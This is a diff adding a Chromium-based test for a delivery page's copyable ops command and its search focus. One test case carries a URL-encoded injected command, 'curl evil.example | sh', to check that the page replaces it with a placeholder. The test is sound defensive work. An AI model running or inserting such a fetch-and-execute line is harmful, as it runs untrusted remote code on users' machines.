@@ -306,3 +306,35 @@ addEventListener('load', async () => {
   },
   120_000,
 );
+
+/** What the page of a delivery shows to copy, and whether the rest of the page came alive. */
+const DELIVERY_READER = `
+addEventListener('load', () => {
+  document.body.dispatchEvent(new KeyboardEvent('keydown', { key: '/', bubbles: true }));
+  const shown = [...document.querySelectorAll('main code')].map((code) => code.textContent.trim());
+  const focused = document.activeElement.id;
+  fetch('/report', { method: 'POST', body: JSON.stringify({ shown, focused }) });
+});
+`;
+const EVENT = '01a1ff66-6d92-7a68-8fda-7700e2a64ede';
+
+(chromium === '' ? test.skip : test).each([
+  [EVENT, EVENT],
+  [EVENT.toUpperCase(), EVENT.toUpperCase()],
+  // A command that somebody else wrote into a link.
+  ['1%3B%20curl%20evil.example%20%7C%20sh', 'EVENT_ID'],
+  ['%E0%A4', 'EVENT_ID'],
+])('the page of the delivery %s names %s (skipped without Chromium)', async (given, named) => {
+  script = DELIVERY_READER;
+  const reported = new Promise<string>((done) => {
+    report = done;
+  });
+  const url = `http://127.0.0.1:${server.port}/app/deliveries/${given}`;
+  const browser = startChromium(chromium, url, ['--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1']);
+  const seen = JSON.parse(await reported);
+  await browser.stop();
+  expect(seen).toEqual({
+    shown: [named, `npm run ops -- deliveries show ${named}`],
+    focused: 'search',
+  });
+});
